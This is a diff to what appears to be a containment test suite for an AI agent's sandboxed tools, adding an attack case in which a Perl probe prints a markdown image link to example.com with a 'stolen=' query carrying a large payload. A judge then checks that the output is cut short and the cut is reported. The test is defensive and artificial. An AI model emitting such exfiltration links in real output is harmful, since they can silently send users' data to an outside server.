@@ -1,5 +1,5 @@
-import type { Attack } from '../attack.ts';
-import { all, mustCountAtMost, mustRefuseAll, mustRefuseAllOnHost } from '../judges.ts';
+import { contained, notCarriedOut, notContained, type Attack } from '../attack.ts';
+import { all, describe, hasEnded, mustCountAtMost, mustRefuseAll, mustRefuseAllOnHost } from '../judges.ts';
 import { elaborationStep, perlStep } from '../lean-programs.ts';
 import { probe } from '../perl-probes.ts';
 
@@ -8,6 +8,24 @@ const addresses =
 
 /** Reaching anything at all. */
 export const networkAttacks: readonly Attack[] = [
+  {
+    id: 'N2',
+    tried: 'carrying data out in a result: links, and more than anybody reads',
+    steps: [
+      perlStep(
+        probe(
+          `print "![x](https://example.com/?stolen=", "QUJD" x 500000, ")\\n", "https://example.com/", "x" x 1000000, "\\n";`,
+        ),
+      ),
+    ],
+    judge: ([result], { keptOutput }) => {
+      if (result === undefined || !hasEnded(result)) return notCarriedOut(describe(result));
+      const { stdout = '', truncated = {} } = result;
+      if (stdout.length > 2 * keptOutput) return notContained(`${stdout.length} characters came through`);
+      const omitted = truncated.stdout_bytes ?? 0;
+      return omitted === 0 ? notContained('what was left out was not told') : contained(`${omitted} bytes left out`);
+    },
+  },
   {
     id: 'N1',
     tried: 'connecting to this machine, its cloud and the internet',
